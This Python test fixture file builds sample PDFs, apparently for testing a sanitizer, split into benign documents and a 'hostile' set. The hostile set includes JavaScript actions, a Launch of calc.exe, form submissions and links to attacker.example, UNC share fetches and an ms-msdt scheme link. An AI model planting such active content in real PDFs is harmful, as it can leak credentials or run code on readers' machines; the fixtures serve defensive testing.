"""PDFs as people make them and as attackers do, by name; made on the spot."""

import io
from typing import Any

import pikepdf
import typst
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from tests.unit.files import samples
from tests.unit.files.samples import annotated, pdf, pdf_with_action

UNC = "\\\\attacker.example\\share\\x"


def _link(**action: Any) -> bytes:
    return annotated("Link", A=Dictionary(**action))


def _in_root(key: str, value: object) -> bytes:
    return pdf(lambda made: made.Root.__setattr__(key, value))


def _on_page(key: str, value: object) -> bytes:
    return pdf(lambda made: made.pages[0].obj.__setitem__(key, value))


def _stream(**entries: object) -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        stream = made.make_stream(b"")
        for key, value in entries.items():
            stream[f"/{key}"] = value
        made.pages[0].obj["/Contents"] = stream

    return pdf(change)


def _form_xobject(**entries: object) -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        form = made.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
        for key, value in entries.items():
            form[f"/{key}"] = value
        made.pages[0].obj["/Resources"] = Dictionary(XObject=Dictionary(X=form))

    return pdf(change)


def _go_to_r() -> Dictionary:
    return Dictionary(S=Name.GoToR, F=String(UNC), D=Array([0, Name.Fit]))


def _uri(address: str) -> Dictionary:
    return Dictionary(S=Name.URI, URI=String(address))


HOSTILE_PDF = {
    "javascript": pdf_with_action(samples.javascript()),
    "javascript chained": pdf_with_action(
        Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([samples.javascript()]))
    ),
    "launch": pdf_with_action(Dictionary(S=Name.Launch, F=String("calc.exe"))),
    "embedded file": samples.pdf_with_attachment(b"a file"),
    "xfa": _in_root("AcroForm", Dictionary(Fields=Array(), XFA=String("<xdp/>"))),
    "rich media": annotated("RichMedia", RichMediaContent=Dictionary()),
    "movie": annotated("Movie"),
    "go to a share on opening a page": _on_page("/AA", Dictionary(O=_go_to_r())),
    "go to a share on opening": pdf_with_action(_go_to_r()),
    "go to a share by a link": annotated("Link", A=_go_to_r()),
    "go to an embedded file": annotated("Link", A=Dictionary(S=Name.GoToE)),
    "web page on opening": pdf_with_action(_uri("https://attacker.example/")),
    "web page on opening a page": _on_page("/AA", Dictionary(O=_uri("https://attacker.example/"))),
    "submit form on opening": pdf_with_action(Dictionary(S=Name.SubmitForm, F=String("https://attacker.example/"))),
    "submit form by a link": _link(S=Name.SubmitForm, F=String("https://attacker.example/")),
    "import data": pdf_with_action(Dictionary(S=Name.ImportData, F=String(UNC))),
    "thread elsewhere": pdf_with_action(Dictionary(S=Name.Thread, F=String(UNC), D=0)),
    "three-dimensional view": _link(S=Name.GoTo3DView, TA=Dictionary(), V=Name.F),
    "hidden form fields": _link(S=Name.Hide, T=String("a")),
    "rendition": _link(S=Name.Rendition, OP=0),
    "javascript address": annotated("Link", A=_uri("javascript:app.alert(1)")),
    "javascript address, disguised": annotated("Link", A=_uri("java\tscript:app.alert(1)")),
    "file address": annotated("Link", A=_uri("file://attacker.example/share/x")),
    "share as address": annotated("Link", A=_uri(UNC)),
    "address without a host": annotated("Link", A=_uri("//attacker.example/x")),
    "program by a scheme": annotated("Link", A=_uri("ms-msdt:/id PCWDiagnostic")),
    "base of addresses": _in_root("URI", Dictionary(Base=String("file://attacker.example/"))),
    "print by name": _link(S=Name.Named, N=Name.Print),
    "unknown action": _link(S=Name.Tomorrow),
    "stream elsewhere": _stream(F=String(UNC)),
    "stream elsewhere, described": _stream(
        F=Dictionary(Type=Name.Filespec, FS=Name.URL, F=String("http://a.example/"))
    ),
    "page of another file": _form_xobject(Ref=Dictionary(F=String(UNC), Page=0)),
    "picture of another file": _form_xobject(OPI=Dictionary()),
}
"""Each acts, or fetches something, when it is opened or clicked."""

_TYPST = """
#set document(title: "Report", author: "A Professional")
#set page(footer: context [#counter(page).display()])
#set heading(numbering: "1.")
#outline()
= First <first>
See @first, #link("https://council.example/path?a=b")[the council], #link("mailto:a@council.example")[write],
#link("tel:01174960000")[ring]. A note#footnote[The note.].
#table(columns: 2, [a], [b], [c], [d])
#figure(table([x]), caption: [A table])
#pagebreak()
= Second
#lorem(300)
"""


def _typst(**how: object) -> bytes:
    made = typst.compile(_TYPST.encode(), **how)  # type: ignore[call-overload]
    return bytes(made)


def _scan() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (200, 280), "white").save(out, "PDF", title="Scan", resolution=100)
    return out.getvalue()


def _with_outline() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.add_blank_page()
        with made.open_outline() as outline:
            outline.root.append(pikepdf.OutlineItem("One", 0))
            outline.root.append(pikepdf.OutlineItem("Two", 1))
        made.Root.PageMode = Name.UseOutlines

    return pdf(change)


def _with_fields() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        field = made.make_indirect(
            Dictionary(
                Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"), Rect=Array([0, 0, 9, 9]), F=4
            )
        )
        made.pages[0].obj["/Annots"] = Array([field])
        made.Root.AcroForm = Dictionary(Fields=Array([field]), DA=String("/Helv 0 Tf"))

    return pdf(change)


HONEST_PDF = {
    "typst": _typst(),
    "typst, archived": _typst(pdf_standards=["a-2b"]),
    "typst, accessible": _typst(pdf_standards=["ua-1"]),
    "scan": _scan(),
    "outline": _with_outline(),
    "fields to fill": _with_fields(),
    "opens at a page": pdf_with_action(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]))),
    "opens at a page, by place": _in_root("OpenAction", Array([0, Name.Fit])),
    "turns pages": _link(S=Name.Named, N=Name.NextPage),
    "address as people write it": annotated("Link", A=_uri("www.council.example/a")),
    "packed": pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True),
    "linear": pdf(linearize=True),
}
